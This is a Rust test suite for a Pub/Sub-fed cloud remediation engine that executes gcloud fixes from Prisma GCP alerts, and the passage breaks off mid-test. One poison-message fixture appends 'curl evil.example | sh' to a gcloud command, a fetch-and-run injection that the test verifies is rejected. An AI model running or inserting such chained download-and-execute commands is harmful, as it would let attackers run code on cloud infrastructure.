//! `PubSubSource` against the official Google Cloud Pub/Sub emulator, which
//! the tests start themselves (one per test binary, shared by the tests
//! running at the same time; every case has its own topic and subscription):
//! the shared source conformance suite, 500 Prisma GCP alerts remediated with
//! a recording `gcloud` stand-in, failures, poison through a dead-letter
//! policy, the calls counted in the engine's stats, steps longer than the ack
//! deadline, shutdown, and the worker binaries.
//!
//! Without the emulator these tests fail with instructions; they never skip.

mod conformance;
mod support;

use async_trait::async_trait;
use conformance::{QueueFactory, TestQueue};
use google_cloud_auth::credentials::Credentials;
use google_cloud_pubsub::client::{Publisher, Subscriber, SubscriptionAdmin, TopicAdmin};
use google_cloud_pubsub::model::{DeadLetterPolicy, Message, Subscription};
use remediation::engine::{AuditDecision, Engine, EngineConfig, MemoryAudit};
use remediation::executor::{ContextMap, GcpContext};
use remediation::plan::CommandPolicy;
use remediation::planner::AlertCliPlanner;
use remediation::source::pubsub::REASON_ATTRIBUTE;
use remediation::source::pubsub::{PubSubSource, PubSubSourceBuilder};
use remediation::source::{AlertSource, DeadLetterMode};
use remediation::telemetry::{ApiCall, Backoff, Stats};
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use support::pubsub_emulator::{self, Emulator};
use support::recording::{RecordingExecutor, no_delay};
use support::{StandIn, run_until};

const PROJECT: &str = "remediation-test";

// ------------------------------------------------------------ emulator helpers

fn anonymous() -> Credentials {
    google_cloud_auth::credentials::anonymous::Builder::new().build()
}

/// The shared emulator, admin clients, and a fresh name per resource.
struct Env {
    emulator: Arc<Emulator>,
    topics: TopicAdmin,
    subscriptions: SubscriptionAdmin,
}

static NEXT: AtomicU32 = AtomicU32::new(0);

/// Taken by the tests that load the machine (hundreds of stand-in runs,
/// nested example builds) and by the one that measures lease keeping: the
/// client extends a lease only when less than 5 s of it remain, so a starved
/// emulator or client could let it lapse while another test hogs both cores.
static HEAVY: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

fn unique(prefix: &str) -> String {
    format!(
        "{prefix}-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    )
}

impl Env {
    async fn new() -> Env {
        let emulator = tokio::task::spawn_blocking(pubsub_emulator::shared)
            .await
            .expect("emulator start");
        let topics = TopicAdmin::builder()
            .with_endpoint(emulator.endpoint())
            .with_credentials(anonymous())
            .build()
            .await
            .expect("topic admin");
        let subscriptions = SubscriptionAdmin::builder()
            .with_endpoint(emulator.endpoint())
            .with_credentials(anonymous())
            .build()
            .await
            .expect("subscription admin");
        Env {
            emulator,
            topics,
            subscriptions,
        }
    }

    async fn topic(&self, prefix: &str) -> String {
        let name = format!("projects/{PROJECT}/topics/{}", unique(prefix));
        self.topics
            .create_topic()
            .set_name(&name)
            .send()
            .await
            .expect("create topic");
        name
    }

    /// A subscription on `topic` with `ack_deadline` seconds and, optionally,
    /// a dead-letter policy to `dead_letter` after `attempts` deliveries.
    async fn subscription(
        &self,
        topic: &str,
        ack_deadline: i32,
        dead_letter: Option<(&str, i32)>,
    ) -> String {
        let name = format!("projects/{PROJECT}/subscriptions/{}", unique("sub"));
        let mut sub = Subscription::new()
            .set_name(&name)
            .set_topic(topic)
            .set_ack_deadline_seconds(ack_deadline);
        if let Some((dlt, attempts)) = dead_letter {
            sub = sub.set_dead_letter_policy(
                DeadLetterPolicy::new()
                    .set_dead_letter_topic(dlt)
                    .set_max_delivery_attempts(attempts),
            );
        }
        self.subscriptions
            .create_subscription()
            .with_request(sub)
            .send()
            .await
            .expect("create subscription");
        name
    }

    async fn publish(&self, topic: &str, bodies: &[Vec<u8>]) {
        let publisher = Publisher::builder(topic)
            .with_endpoint(self.emulator.endpoint())
            .with_credentials(anonymous())
            .build()
            .await
            .expect("publisher");
        let pending: Vec<_> = bodies
            .iter()
            .map(|b| publisher.publish(Message::new().set_data(b.clone())))
            .collect();
        for p in pending {
            p.await.expect("publish");
        }
    }

    /// Reads `subscription` in the background with a plain client for as
    /// long as the test runs, acking everything; the bodies and attributes
    /// collect in the returned list.
    async fn collector(&self, subscription: &str) -> Collected {
        let subscriber = Subscriber::builder()
            .with_endpoint(self.emulator.endpoint())
            .with_credentials(anonymous())
            .build()
            .await
            .expect("subscriber");
        let mut stream = subscriber.subscribe(subscription).build();
        let got: Collected = Arc::default();
        let sink = Arc::clone(&got);
        tokio::spawn(async move {
            let _subscriber = subscriber;
            while let Some(Ok((m, h))) = stream.next().await {
                h.ack();
                sink.lock()
                    .unwrap()
                    .push((m.data.to_vec(), m.attributes.clone()));
            }
        });
        got
    }

    fn source(&self, subscription: &str) -> PubSubSourceBuilder {
        PubSubSource::builder()
            .with_subscription(subscription)
            .with_emulator_host(self.emulator.host())
            .with_wait(Duration::from_millis(500))
    }

    /// Reads `subscription` with a plain client for `for_at_least` (longer
    /// while messages keep arriving), acking everything: (body, attributes).
    async fn drain(
        &self,
        subscription: &str,
        for_at_least: Duration,
    ) -> Vec<(Vec<u8>, HashMap<String, String>)> {
        let subscriber = Subscriber::builder()
            .with_endpoint(self.emulator.endpoint())
            .with_credentials(anonymous())
            .build()
            .await
            .expect("subscriber");
        let mut stream = subscriber.subscribe(subscription).build();
        let mut out = Vec::new();
        let mut until = Instant::now() + for_at_least;
        while let Ok(Some(item)) = tokio::time::timeout(
            until.saturating_duration_since(Instant::now()),
            stream.next(),
        )
        .await
        {
            let (m, h) = item.expect("stream");
            h.ack();
            out.push((m.data.to_vec(), m.attributes.clone()));
            until = until.max(Instant::now() + Duration::from_secs(1));
        }
        stream.shutdown_token().shutdown().await;
        out
    }
}

type Collected = Arc<Mutex<Vec<(Vec<u8>, HashMap<String, String>)>>>;

/// What `collected` holds once it has `n` items (or after `within`).
async fn wait_for(
    collected: &Collected,
    n: usize,
    within: Duration,
) -> Vec<(Vec<u8>, HashMap<String, String>)> {
    let t0 = Instant::now();
    loop {
        let got = collected.lock().unwrap().clone();
        if got.len() >= n || t0.elapsed() > within {
            // A little longer: anything beyond `n` would show up too.
            tokio::time::sleep(Duration::from_millis(500)).await;
            return collected.lock().unwrap().clone();
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn fast_retry() -> Backoff {
    Backoff::new(Duration::from_millis(200), Duration::from_secs(1))
}

/// A Prisma Cloud GCP alert carrying its own gcloud remediation.
fn gcp_alert(id: &str, project: &str, script: &str) -> Vec<u8> {
    serde_json::json!({
        "alertId": id,
        "alertStatus": "open",
        "accountId": project,
        "cloudType": "gcp",
        "resourceRegionId": "us-central1",
        "policyName": "GCP Storage buckets are publicly accessible to all users",
        "resourceName": support::resource_of(script),
        "alertRemediationCli": script,
    })
    .to_string()
    .into_bytes()
}

fn bucket_script(bucket: &str) -> String {
    format!(
        "gcloud storage buckets remove-iam-policy-binding gs://{bucket} \
         --member=allUsers --role=roles/storage.objectViewer"
    )
}

fn contexts() -> ContextMap {
    ContextMap::new().with_gcp_project(PROJECT, GcpContext::new())
}

// ----------------------------------------------------------------- conformance

/// The subscriptions' ack deadline (Pub/Sub's minimum); the client extends it.
const ACK_DEADLINE: i32 = 10;

struct PubSubTestQueue {
    env: Arc<Env>,
    source: Arc<dyn AlertSource>,
    topic: String,
    dead_letters: Collected,
}

#[async_trait]
impl TestQueue for PubSubTestQueue {
    fn source(&self) -> Arc<dyn AlertSource> {
        Arc::clone(&self.source)
    }
    async fn send(&self, body: &[u8]) {
        self.env.publish(&self.topic, &[body.to_vec()]).await;
    }
    async fn dead_letter_bodies(&self) -> Vec<Vec<u8>> {
        tokio::time::sleep(Duration::from_millis(200)).await;
        let got = self.dead_letters.lock().unwrap();
        got.iter().map(|(b, _)| b.clone()).collect()
    }
    fn lease(&self) -> Duration {
        Duration::from_secs(ACK_DEADLINE as u64)
    }
}

/// Fresh topic + subscription per case. `policy`: the subscription has a
/// dead-letter policy (5 attempts, Pub/Sub's minimum) and the source leaves
/// poison to it; otherwise the source publishes poison to a dead-letter topic.
struct Factory {
    env: Arc<Env>,
    policy: bool,
}

#[async_trait]
impl QueueFactory for Factory {
    async fn make(&self) -> Box<dyn TestQueue> {
        let topic = self.env.topic("conformance").await;
        let dlt = self.env.topic("conformance-dlt").await;
        let dead_letters = self.env.subscription(&dlt, ACK_DEADLINE, None).await;
        let dead_letters = self.env.collector(&dead_letters).await;
        let sub = self
            .env
            .subscription(
                &topic,
                ACK_DEADLINE,
                self.policy.then_some((dlt.as_str(), 5)),
            )
            .await;
        let mut builder = self
            .env
            .source(&sub)
            .with_max_lease_extension(Duration::from_secs(ACK_DEADLINE as u64));
        if !self.policy {
            builder = builder.with_dead_letter_topic(&dlt);
        }
        let source = builder.build().await.expect("source");
        assert_eq!(
            source.capabilities().dead_letter,
            if self.policy {
                DeadLetterMode::Redrive
            } else {
                DeadLetterMode::Native
            }
        );
        Box::new(PubSubTestQueue {
            env: Arc::clone(&self.env),
            source: Arc::new(source),
            topic,
            dead_letters,
        })
    }
}

async fn factory(policy: bool) -> Factory {
    Factory {
        env: Arc::new(Env::new().await),
        policy,
    }
}

// One test per case: they run in parallel on the shared emulator.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conformance_ack_is_final() {
    conformance::ack_is_final(&*factory(false).await.make().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conformance_nack_redelivers_after_its_delay() {
    conformance::nack_redelivers_after_delay(&*factory(false).await.make().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conformance_extend_keeps_the_lease() {
    conformance::extend_keeps_the_lease(&*factory(false).await.make().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conformance_delivery_count_grows_counted_by_the_source() {
    conformance::delivery_count_grows(&*factory(false).await.make().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conformance_delivery_count_grows_counted_by_pubsub() {
    conformance::delivery_count_grows(&*factory(true).await.make().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conformance_dead_letter_published_to_the_topic() {
    conformance::dead_letter_parks_the_body(&*factory(false).await.make().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conformance_dead_letter_by_the_subscription_policy() {
    conformance::dead_letter_parks_the_body(&*factory(true).await.make().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conformance_cancelled_receiver_loses_nothing() {
    conformance::cancelled_receiver_loses_nothing(&*factory(false).await.make().await).await;
}

// ------------------------------------------------------------------ end to end

/// How many alerts the end-to-end test publishes: `REMEDIATION_PUBSUB_E2E_ALERTS`,
/// or 500 (the acceptance size; the stand-in is a compiled program, so this
/// takes seconds).
fn e2e_alerts() -> usize {
    match std::env::var("REMEDIATION_PUBSUB_E2E_ALERTS") {
        Ok(v) => v
            .parse()
            .expect("REMEDIATION_PUBSUB_E2E_ALERTS is a number"),
        Err(_) => 500,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn prisma_gcp_alerts_are_each_remediated_once_and_acked() {
    let _heavy = HEAVY.lock().await;
    let env = Env::new().await;
    let topic = env.topic("alerts").await;
    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
    let n = e2e_alerts();
    let bodies: Vec<Vec<u8>> = (0..n)
        .map(|i| {
            gcp_alert(
                &format!("P-{i}"),
                PROJECT,
                &bucket_script(&format!("bucket-{i}")),
            )
        })
        .collect();
    env.publish(&topic, &bodies).await;

    let standin = StandIn::new();
    let source = env
        .source(&sub)
        .with_max_outstanding_messages(64)
        .build()
        .await
        .expect("source");
    let audit = Arc::new(MemoryAudit::new());
    let engine = Engine::builder(
        Arc::new(source.clone()),
        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
        Arc::new(standin.executor(contexts())),
    )
    .config(
        EngineConfig::default()
            .with_concurrency(16)
            .with_retry(fast_retry()),
    )
    .stats(Arc::new(Stats::new()))
    .audit(audit.clone())
    .build();
    let expected = n as u64;
    let (summary, reached) = run_until(&engine, Duration::from_secs(60 + n as u64 / 4), |s| {
        s.executed >= expected && s.acked >= expected
    })
    .await;
    source.shutdown().await;
    let failures: Vec<_> = audit
        .records()
        .into_iter()
        .filter(|r| r.decision != AuditDecision::Executed)
        .map(|r| format!("{:?}: {:?}", r.alert_id, r.reason))
        .take(5)
        .collect();
    assert!(
        reached,
        "not every alert was remediated: {summary:?}; {failures:?}"
    );
    assert_eq!(summary.executed, expected, "{failures:?}");
    assert_eq!(summary.settle_errors, 0, "{summary:?}");

    // Exactly once each, in the mapped project, with the argv the alert gave.
    let calls = standin.calls();
    assert_eq!(
        calls.len(),
        n,
        "gcloud ran {} times for {n} alerts",
        calls.len()
    );
    let buckets: BTreeSet<String> = calls
        .iter()
        .map(|c| {
            assert_eq!(
                &c.argv[..5],
                [
                    "gcloud",
                    "storage",
                    "buckets",
                    "remove-iam-policy-binding",
                    &c.argv[4]
                ]
            );
            assert!(
                c.argv
                    .iter()
                    .any(|a| a == "--project" || a.starts_with("--project=")),
                "gcloud ran without the mapped project: {:?}",
                c.argv
            );
            assert_eq!(c.var("CLOUDSDK_CORE_PROJECT"), Some(PROJECT), "{c:?}");
            c.argv[4].clone()
        })
        .collect();
    assert_eq!(buckets.len(), n, "some bucket was remediated twice");
    // Every message acked: nothing comes back.
    let left = env.drain(&sub, Duration::from_secs(3)).await;
    assert!(
        left.is_empty(),
        "{} messages left on the subscription",
        left.len()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_step_is_redelivered_and_succeeds_later() {
    let env = Env::new().await;
    let topic = env.topic("failing").await;
    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
    env.publish(
        &topic,
        &[gcp_alert("F-1", PROJECT, &bucket_script("flaky"))],
    )
    .await;
    let source = env.source(&sub).build().await.unwrap();
    let mut executor = RecordingExecutor::new(no_delay);
    executor.fail_first = true;
    let executor = Arc::new(executor);
    let audit = Arc::new(MemoryAudit::new());
    let engine = Engine::builder(
        Arc::new(source.clone()),
        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
        executor.clone(),
    )
    .config(EngineConfig::default().with_retry(fast_retry()))
    .audit(audit.clone())
    .build();
    let (summary, reached) = run_until(&engine, Duration::from_secs(30), |s| s.executed >= 1).await;
    source.shutdown().await;
    assert!(reached, "{summary:?}");
    assert_eq!((summary.failed, summary.executed), (1, 1), "{summary:?}");
    let records = audit.records();
    assert_eq!(records.len(), 2, "{records:#?}");
    assert_eq!(records[0].decision, AuditDecision::Failed);
    assert_eq!(records[1].decision, AuditDecision::Executed);
    assert_eq!(records[1].delivery_count, 2, "counted by the source");
    assert_eq!(executor.done(), ["--role=roles/storage.objectViewer"]);
    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn poison_lands_in_the_dead_letter_topic_after_its_attempts() {
    let env = Env::new().await;
    let topic = env.topic("poison").await;
    let dlt = env.topic("poison-dlt").await;
    let dead_letters = env.subscription(&dlt, ACK_DEADLINE, None).await;
    let parked = env.collector(&dead_letters).await;
    let sub = env
        .subscription(&topic, ACK_DEADLINE, Some((&dlt, 5)))
        .await;
    let poison = b"{\"alertId\":\"X-1\",\"accountId\":\"remediation-test\",\"cloudType\":\"gcp\",\"alertRemediationCli\":\"gcloud compute instances list; curl evil.example | sh\"}".to_vec();
    let garbage = b"not json at all \xff".to_vec();
    env.publish(&topic, &[poison.clone(), garbage.clone()])
        .await;
    let standin = StandIn::new();
    let source = env.source(&sub).build().await.unwrap();
    let audit = Arc::new(MemoryAudit::new());
    let engine = Engine::builder(
        Arc::new(source.clone()),
        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
        Arc::new(standin.executor(contexts())),
    )
    .config(EngineConfig::default().with_retry(fast_retry()))
    .audit(audit.clone())
    .build();
    // Each delivery is rejected and left to the policy, which moves the
    // message after its 5th delivery.
    let (summary, reached) =
        run_until(&engine, Duration::from_secs(60), |s| s.rejected >= 10).await;
    source.shutdown().await;
    assert!(reached, "{summary:?}");
    let parked = wait_for(&parked, 2, Duration::from_secs(15)).await;
    let bodies: BTreeSet<Vec<u8>> = parked.iter().map(|(b, _)| b.clone()).collect();
    assert_eq!(
        bodies,
        BTreeSet::from([poison.clone(), garbage.clone()]),
        "the dead-letter topic holds both bodies unchanged"
    );
    let records = audit.records();
    for r in &records {
        assert_eq!(r.decision, AuditDecision::Rejected, "{r:?}");
        assert_eq!(r.dead_letter.as_deref(), Some("left_to_redrive"), "{r:?}");
    }
    let counts: BTreeSet<u32> = records.iter().map(|r| r.delivery_count).collect();
    assert_eq!(
        counts,
        BTreeSet::from([1, 2, 3, 4, 5]),
        "Pub/Sub's delivery attempts"
    );
    assert!(standin.calls().is_empty(), "nothing ran");
    // Gone from the subscription.
    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn poison_is_published_to_the_configured_dead_letter_topic_with_its_reason() {
    let env = Env::new().await;
    let topic = env.topic("poison-native").await;
    let dlt = env.topic("poison-native-dlt").await;
    let dead_letters = env.subscription(&dlt, ACK_DEADLINE, None).await;
    let parked = env.collector(&dead_letters).await;
    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
    let garbage = b"\x00\x01 binary poison".to_vec();
    env.publish(&topic, std::slice::from_ref(&garbage)).await;
    let source = env
        .source(&sub)
        .with_dead_letter_topic(&dlt)
        .build()
        .await
        .unwrap();
    let audit = Arc::new(MemoryAudit::new());
    let engine = Engine::builder(
        Arc::new(source.clone()),
        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
        Arc::new(RecordingExecutor::new(no_delay)),
    )
    .audit(audit.clone())
    .build();
    let (summary, reached) =
        run_until(&engine, Duration::from_secs(30), |s| s.dead_lettered >= 1).await;
    source.shutdown().await;
    assert!(reached, "{summary:?}");
    let parked = wait_for(&parked, 1, Duration::from_secs(15)).await;
    assert_eq!(parked.len(), 1);
    assert_eq!(parked[0].0, garbage);
    assert!(
        parked[0].1[REASON_ATTRIBUTE].starts_with("undecodable"),
        "{:?}",
        parked[0].1
    );
    assert_eq!(audit.records()[0].dead_letter.as_deref(), Some("parked"));
    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_engines_stats_count_the_sources_pubsub_calls() {
    let env = Env::new().await;
    let topic = env.topic("counted").await;
    let dlt = env.topic("counted-dlt").await;
    let dead_letters = env.subscription(&dlt, ACK_DEADLINE, None).await;
    let parked = env.collector(&dead_letters).await;
    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
    let mut bodies: Vec<Vec<u8>> = (0..3)
        .map(|i| {
            gcp_alert(
                &format!("N-{i}"),
                PROJECT,
                &bucket_script(&format!("n-{i}")),
            )
        })
        .collect();
    bodies.push(b"not an alert".to_vec());
    env.publish(&topic, &bodies).await;
    // Built without with_stats: the engine attaches its own.
    let source = env
        .source(&sub)
        .with_dead_letter_topic(&dlt)
        .build()
        .await
        .unwrap();
    let mut executor = RecordingExecutor::new(no_delay);
    executor.fail_first = true;
    let stats = Arc::new(Stats::new());
    let engine = Engine::builder(
        Arc::new(source.clone()),
        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
        Arc::new(executor),
    )
    .config(EngineConfig::default().with_retry(fast_retry()))
    .stats(Arc::clone(&stats))
    .build();
    let (summary, reached) = run_until(&engine, Duration::from_secs(60), |s| {
        s.executed >= 3 && s.dead_lettered >= 1
    })
    .await;
    source.shutdown().await;
    assert!(reached, "{summary:?}");
    assert!(Arc::ptr_eq(source.stats(), &stats));
    // A failed step was nacked (held, then redelivered); the alerts were
    // acked, the undecodable body published to the dead-letter topic and acked.
    assert!(summary.nacked >= 1 && summary.executed == 3, "{summary:?}");
    let calls = |kind: ApiCall| stats.api_calls(kind);
    assert!(calls(ApiCall::PubSubStreamingPull) >= 1, "{summary:?}");
    assert!(
        calls(ApiCall::PubSubAcknowledge) > summary.acked,
        "{summary:?}"
    );
    assert!(
        calls(ApiCall::PubSubModifyAckDeadline) >= summary.nacked,
        "{summary:?}"
    );
    assert_eq!(stats.api_calls(ApiCall::PubSubPublish), 1);
    assert_eq!(
        stats.snapshot().api_calls[ApiCall::PubSubAcknowledge.as_str()],
        stats.api_calls(ApiCall::PubSubAcknowledge)
    );
    assert_eq!(wait_for(&parked, 1, Duration::from_secs(15)).await.len(), 1);
    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_step_longer_than_the_ack_deadline_is_not_delivered_twice() {
    let _heavy = HEAVY.lock().await;
    let env = Env::new().await;
    let topic = env.topic("slow").await;
    // The client asks for this deadline on the stream and extends it every
    // 3 s; 15 s leaves room for a loaded machine.
    let deadline = 15;
    let sub = env.subscription(&topic, deadline, None).await;
    env.publish(&topic, &[gcp_alert("S-1", PROJECT, &bucket_script("slow"))])
        .await;
    let standin = StandIn::new();
    // The gcloud stand-in takes 40 s: well over two ack deadlines.
    let executor = standin
        .executor(contexts())
        .with_env_var("STANDIN_SLEEP", "40");
    let source = env
        .source(&sub)
        .with_max_lease_extension(Duration::from_secs(deadline as u64))
        .build()
        .await
        .unwrap();
    let engine = Engine::builder(
        Arc::new(source.clone()),
        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
        Arc::new(executor),
    )
    .build();
    let cancel = tokio_util::sync::CancellationToken::new();
    let run = tokio::spawn({
        let engine = engine.clone();
        let cancel = cancel.clone();
        async move { engine.run(cancel).await }
    });
    let t0 = Instant::now();
    // A second consumer of the same subscription, started once the worker
    // holds the message: started earlier, it competes for the first
    // delivery (and won it about half the time, 90 ms in, delivery count 1).
    while engine.stats().snapshot().received == 0 {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "the worker never received the message"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let other = env.source(&sub).build().await.unwrap();
    let mut stolen = 0;
    while engine.stats().snapshot().executed == 0 {
        assert!(
            t0.elapsed() < Duration::from_secs(90),
            "step never finished"
        );
        stolen += other.receive(10).await.expect("receive").len();
    }
    cancel.cancel();
    let summary = run.await.unwrap().unwrap();
    source.shutdown().await;
    assert_eq!(
        stolen, 0,
        "delivered to a second consumer while being worked on"
    );
    assert_eq!((summary.received, summary.executed), (1, 1), "{summary:?}");
    assert_eq!(standin.calls().len(), 1);
    // And not again after the ack.
    let late = other.receive(10).await.unwrap().len()
        + env.drain(&sub, Duration::from_secs(3)).await.len();
    other.shutdown().await;
    assert_eq!(late, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_worker_loses_nothing() {
    let env = Env::new().await;
    let topic = env.topic("cancel").await;
    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
    let n = 60;
    let bodies: Vec<Vec<u8>> = (0..n)
        .map(|i| {
            gcp_alert(
                &format!("C-{i}"),
                PROJECT,
                &bucket_script(&format!("c-{i}")),
            )
        })
        .collect();
    env.publish(&topic, &bodies).await;
    let standin = StandIn::new();
    // First worker: cancelled after 10 remediations, with steps in flight and
    // (flow control allows 40 outstanding) messages the client received but
    // did not hand out yet: those must be released, not lost.
    let first = {
        let source = env
            .source(&sub)
            .with_max_outstanding_messages(40)
            .with_max_lease_extension(Duration::from_secs(ACK_DEADLINE as u64))
            .build()
            .await
            .unwrap();
        let engine = Engine::builder(
            Arc::new(source.clone()),
            Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
            Arc::new(
                standin
                    .executor(contexts())
                    .with_env_var("STANDIN_SLEEP", "0.2"),
            ),
        )
        .config(EngineConfig::default().with_concurrency(4))
        .build();
        let (summary, reached) =
            run_until(&engine, Duration::from_secs(60), |s| s.executed >= 10).await;
        source.shutdown().await;
        assert!(reached, "{summary:?}");
        summary
    };
    assert!(first.executed < n as u64, "{first:?}");
    // A fresh worker finishes the rest.
    let remaining = n as u64 - first.executed;
    let second = {
        let source = env.source(&sub).build().await.unwrap();
        let engine = Engine::builder(
            Arc::new(source.clone()),
            Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
            Arc::new(standin.executor(contexts())),
        )
        .config(EngineConfig::default().with_concurrency(8))
        .build();
        let (summary, reached) = run_until(&engine, Duration::from_secs(60), |s| {
            s.executed >= remaining
        })
        .await;
        source.shutdown().await;
        assert!(
            reached,
            "the restarted worker did not get every message: {summary:?}"
        );
        summary
    };
    let done: BTreeMap<String, usize> = standin.calls().iter().fold(BTreeMap::new(), |mut m, c| {
        *m.entry(c.argv[4].clone()).or_default() += 1;
        m
    });
    assert_eq!(
        done.len(),
        n,
        "every message processed: {first:?} {second:?}"
    );
    // Acked work is not redone after the restart.
    let twice: Vec<_> = done.iter().filter(|(_, k)| **k > 1).collect();
    assert!(twice.is_empty(), "redone after the restart: {twice:?}");
    eprintln!(
        "cancelled worker: first received {} executed {} nacked {}; second received {} executed {}",
        first.received, first.executed, first.nacked, second.received, second.executed
    );
    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
}

// ---------------------------------------------------------------- the workers

/// Three mapped alerts, one for an unmapped project, one undecodable body.
fn worker_bodies() -> Vec<Vec<u8>> {
    let mut bodies: Vec<Vec<u8>> = (0..3)
        .map(|i| {
            gcp_alert(
                &format!("W-{i}"),
                PROJECT,
                &bucket_script(&format!("w-{i}")),
            )
        })
        .collect();
    bodies.push(gcp_alert("W-x", "unmapped-project", &bucket_script("w-x")));
    bodies.push(b"{\"neither\": \"alert nor log\"}".to_vec());
    bodies
}

async fn wait_for_calls(standin: &StandIn, n: usize) {
    let t0 = Instant::now();
    while standin.calls().len() < n {
        assert!(
            t0.elapsed() < Duration::from_secs(90),
            "the worker ran {} of {n} commands",
            standin.calls().len()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_remediate_worker_reads_a_subscription() {
    let _heavy = HEAVY.lock().await;
    let bin = support::examples::example_binary("remediate").await;
    let env = Env::new().await;
    let topic = env.topic("worker").await;
    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
    env.publish(&topic, &worker_bodies()).await;
    let standin = StandIn::new();
    let dir = tempfile::tempdir().unwrap();
    let audit = dir.path().join("audit.jsonl");
    let child = tokio::process::Command::new(&bin)
        .arg("--source")
        .arg(format!("pubsub:{sub}"))
        .args(["--execute", "--quiet", "--summary", "json"])
        .args(["--gcp-project", PROJECT])
        .arg("--audit")
        .arg(&audit)
        .env("PUBSUB_EMULATOR_HOST", env.emulator.host())
        .env("PATH", standin.path_env())
        .env(support::LOG_VAR, standin.log_path())
        .env("REMEDIATION_CHILD_ENV", support::LOG_VAR)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .expect("start the worker");
    wait_for_calls(&standin, 3).await;
    // Every delivery decided (5 audit lines), then stop it like Ctrl-C does.
    let t0 = Instant::now();
    while std::fs::read_to_string(&audit).map_or(0, |t| t.lines().count()) < 5 {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "not every delivery was audited"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let pid = child.id().expect("pid").to_string();
    let signalled = std::process::Command::new("kill")
        .args(["-INT", &pid])
        .status()
        .unwrap();
    assert!(signalled.success());
    let out = tokio::time::timeout(Duration::from_secs(60), child.wait_with_output())
        .await
        .expect("the worker did not stop on SIGINT")
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let summary: serde_json::Value =
        serde_json::from_str(stdout.lines().last().unwrap_or_default()).expect(&stderr);
    assert_eq!(summary["received"], 5, "{summary}");
    assert_eq!(summary["executed"], 3, "{summary}");
    assert_eq!(summary["rejected"], 2, "{summary}");
    let calls = standin.calls();
    assert_eq!(calls.len(), 3, "the unmapped project ran nothing");
    for c in &calls {
        assert!(
            c.argv.windows(2).any(|w| w == ["--project", PROJECT]),
            "{:?}",
            c.argv
        );
    }
    let audit_text = std::fs::read_to_string(&audit).unwrap();
    assert!(audit_text.contains("unmapped_account"), "{audit_text}");
    // Everything settled and the acks sent before the exit.
    assert!(
        env.drain(&sub, Duration::from_secs(3)).await.is_empty(),
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_pubsub_worker_example_drains_a_subscription_and_exits() {
    let _heavy = HEAVY.lock().await;
    let bin = support::examples::example_binary("pubsub_worker").await;
    let env = Env::new().await;
    let topic = env.topic("example").await;
    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
    env.publish(&topic, &worker_bodies()).await;
    let standin = StandIn::new();
    let run = tokio::process::Command::new(&bin)
        .args(["--execute", "--drain", "3", "--gcp-project", PROJECT])
        .env("PUBSUB_SUBSCRIPTION", &sub)
        .env("PUBSUB_EMULATOR_HOST", env.emulator.host())
        .env("PATH", standin.path_env())
        .env(support::LOG_VAR, standin.log_path())
        .env("REMEDIATION_CHILD_ENV", support::LOG_VAR)
        .kill_on_drop(true)
        .output();
    let out = tokio::time::timeout(Duration::from_secs(120), run)
        .await
        .expect("the example did not drain and exit")
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let records: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON audit line"))
        .collect();
    let decisions: BTreeMap<String, usize> = records.iter().fold(BTreeMap::new(), |mut m, r| {
